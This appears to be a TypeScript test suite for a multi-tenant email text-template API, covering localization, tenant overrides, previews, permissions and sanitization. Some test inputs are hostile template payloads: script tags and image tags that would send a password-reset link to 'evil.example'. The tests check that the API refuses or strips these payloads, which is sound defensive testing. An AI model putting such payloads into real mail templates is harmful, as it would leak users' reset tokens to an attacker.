import { runAsTenant } from '@ishare/server/context.js';
import type { TestClient, TestService } from '@ishare/testing/test-service.js';
import { Database } from '@ishare/data/database.js';
import { startPlatform } from '../platform.fixture.js';
import en from './i18n/en.json' with { type: 'json' };
import zhHans from './i18n/zh-Hans.json' with { type: 'json' };
import { TextTemplateContent } from './text-template-content.entity.js';
import { TextTemplateService } from './text-template.service.js';
import { placesOf } from './render.js';
import { sampleValues, textTemplates } from './text-templates.js';

const PATH = '/api/text-template-management';
const LAYOUT = 'Abp.StandardEmailTemplates.Layout';
const RESET = 'Abp.Account.PasswordResetLink';

describe('text templates', () => {
  let service: TestService;
  let host: TestClient;
  let ours: TestClient;
  let theirs: TestClient;

  beforeAll(async () => {
    service = await startPlatform();
    [host, ours, theirs] = await Promise.all([service.host(), service.client(), service.client(service.tenantB)]);
  });
  afterAll(() => service.close());

  const content = async (client: TestClient, templateName: string, cultureName?: string) =>
    (await client.get(`${PATH}/template-contents`, { templateName, ...(cultureName ? { cultureName } : {}) })).body
      .content as string;
  const change = (client: TestClient, templateName: string, cultureName: string | null, text: string) =>
    client.put(`${PATH}/template-contents`, { templateName, cultureName, content: text });
  const restore = (client: TestClient, templateName: string, cultureName: string | null) =>
    client.put(`${PATH}/template-contents/restore-to-default`, { templateName, cultureName });

  it('have a content in both languages, and no content is left over', () => {
    for (const contents of [en, zhHans]) expect(Object.keys(contents)).toEqual(textTemplates.map(({ name }) => name));
  });

  it('have an example of each value that they name, in both languages', () => {
    for (const [contents, samples] of [
      [en, sampleValues.en],
      [zhHans, sampleValues['zh-Hans']],
    ] as const) {
      expect(Object.keys(samples)).toEqual(Object.keys(contents));
      for (const [name, content] of Object.entries(contents))
        expect([name, placesOf(content).filter((place) => !(place in samples[name]!))]).toEqual([name, []]);
    }
  });

  it('are shown as they will be sent: in their frame, with an example, and with what is wrong said', async () => {
    const preview = async (templateName: string, text: string) =>
      (await ours.post(`${PATH}/template-contents/preview`, { templateName, cultureName: 'en', content: text })).body;
    const shown = await preview(RESET, '<p>Hi {{name}}, {{nobody}}</p>');
    expect(shown.html).toMatch(/^<!DOCTYPE html>[^]*<p>Hi Anna Berg, <\/p>/);
    expect(shown).toMatchObject({ fault: null, unknown: ['nobody'] });
    expect(shown.places.map(({ place }: { place: string }) => place)).toEqual(['name', 'link']);
    const faulty = await preview(RESET, '<script>steal()</script><p>{{name}}</p>');
    expect(faulty.html).not.toContain('steal');
    expect(faulty.fault).toMatch(/^<script> may not stand in a mail/);
    expect((await preview(LAYOUT, '<b>{{content}}</b>')).html).toMatch(/<b><h3>Your order/);
    expect(await content(ours, RESET, 'en')).toBe(en[RESET]);
    expect((await preview('Nothing', 'x')).error.code).toBe('TextTemplating:001404');
  });

  it('are listed and found by either name of the search text', async () => {
    const names = async (query: Record<string, string>) =>
      (await ours.get(`${PATH}/template-definitions`, query)).body.items.map(({ name }: { name: string }) => name);
    expect(await names({})).toEqual(textTemplates.map(({ name }) => name));
    expect([
      await names({ filter: 'passwordRESET' }),
      await names({ filterText: 'password reset' }),
      await names({ sorting: 'name', maxResultCount: '1' }),
    ]).toEqual([[RESET], [RESET], ['Abp.Account.EmailConfirmationLink']]);
    expect((await ours.get(`${PATH}/template-definitions/${LAYOUT}`)).body).toEqual({
      name: LAYOUT,
      displayName: 'Frame of all mails',
      isLayout: true,
      layout: null,
      isInlineLocalized: true,
      defaultCultureName: null,
    });
    const unknown = await ours.get(`${PATH}/template-definitions/Nothing`);
    expect([unknown.status, unknown.body.error.code]).toEqual([404, 'TextTemplating:001404']);
  });

  it('are worded per culture, by the tenant, else by the host, else by the product', async () => {
    expect([await content(ours, RESET), await content(ours, RESET, 'en')]).toEqual([zhHans[RESET], en[RESET]]);
    await change(host, RESET, 'en', 'The house: {{link}}');
    const { status, body } = await change(ours, RESET, 'EN', 'Ours: {{link}}');
    expect([status, body]).toEqual([200, { name: RESET, cultureName: 'en', content: 'Ours: {{link}}' }]);
    expect([
      await content(ours, RESET, 'en'),
      await content(theirs, RESET, 'en'),
      await content(ours, RESET, 'zh-Hans'),
    ]).toEqual(['Ours: {{link}}', 'The house: {{link}}', zhHans[RESET]]);
    expect((await restore(ours, RESET, 'en')).status).toBe(204);
    expect(await content(ours, RESET, 'en')).toBe('The house: {{link}}');
    await restore(host, RESET, 'en');
    expect(await content(ours, RESET, 'en')).toBe(en[RESET]);
    expect((await change(ours, RESET, 'xx', 'x')).status).toBe(404);
  });

  it('without words of their own have one content for all cultures', async () => {
    expect((await change(ours, LAYOUT, 'en', '<main>{{content}}</main>')).body).toEqual({
      name: LAYOUT,
      cultureName: null,
      content: '<main>{{content}}</main>',
    });
    expect(await content(ours, LAYOUT, 'zh-Hans')).toBe('<main>{{content}}</main>');
  });

  it('are rendered in their layout, with the values escaped', async () => {
    await change(ours, LAYOUT, null, '<main>{{content}}</main>');
    await change(ours, 'Abp.StandardEmailTemplates.Message', null, '<p>{{message}}</p>');
    const text = await runAsTenant(service.tenantA, () =>
      service.app.get(TextTemplateService).render('Abp.StandardEmailTemplates.Message', 'en', { message: '<script>' }),
    );
    expect(text).toBe('<main><p>&lt;script&gt;</p></main>');
  });

  it('are refused where a value would leave the mail, or where it would run or fetch something', async () => {
    for (const [text, code, told] of [
      ['<img src="https://evil.example/?{{link}}">', '001412', 'https://evil.example/?{{link}}'],
      ['<img src="https://evil.example/pixel">', '001411', '"src" may not stand in <img'],
      ['<script>alert(1)</script>', '001410', '<script> may not stand in a mail'],
    ] as const)
      for (const template of [RESET, LAYOUT]) {
        const { status, body } = await change(ours, template, 'en', text);
        expect([status, body.error.code, body.error.message]).toEqual([
          403,
          `TextTemplating:${code}`,
          expect.stringContaining(told),
        ]);
      }
    expect((await change(ours, RESET, 'en', `<p style="color:red"><b>{{name}}</b></p>${en[RESET]}`)).status).toBe(200);
    await restore(ours, RESET, 'en');
  });

  it('give no value away that were worded before, in the text or in the layout around it', async () => {
    const keep = (name: string, cultureName: string, content: string) =>
      runAsTenant(service.tenantB, () =>
        service.app
          .get(Database)
          .tx((tx) => tx.insert(TextTemplateContent, { name, cultureName, content }))
          .then(() => undefined),
      );
    await keep(RESET, 'en', '<p>{{name}}</p><img src="https://evil.example/?{{link}}"><a href="{{link}}">go</a>');
    await keep(LAYOUT, '', '<script>1</script><b>{{content}}</b><img src="https://evil.example/?{{link}}"/>');
    const link = 'https://here.example/reset?token=secret';
    const text = await runAsTenant(service.tenantB, () =>
      service.app.get(TextTemplateService).render(RESET, 'en', { name: 'Ann', link }),
    );
    expect(text).toBe(`<b><p>Ann</p><img><a href="${link}">go</a></b><img>`);
    await restore(theirs, RESET, 'en');
    await restore(theirs, LAYOUT, null);
  });

  it('open each route to its permission', async () => {
    const [none, reader, writer] = await Promise.all(
      [[], ['TextTemplateManagement.TextTemplates'], ['TextTemplateManagement.TextTemplates.EditContents']].map(
        (permissions) => service.client(service.tenantB, permissions),
      ),
    );
    const ask = async (client: TestClient) => [
      (await client.get(`${PATH}/template-definitions`)).status,
      (await client.get(`${PATH}/template-contents`, { templateName: RESET })).status,
      (await change(client, RESET, 'en', 'x')).status,
      (await restore(client, RESET, 'en')).status,
    ];
    expect([await ask(service.anonymous()), await ask(none!), await ask(reader!), await ask(writer!)]).toEqual([
      [401, 401, 401, 401],
      [403, 403, 403, 403],
      [200, 200, 403, 403],
      [403, 403, 200, 204],
    ]);
  });
});
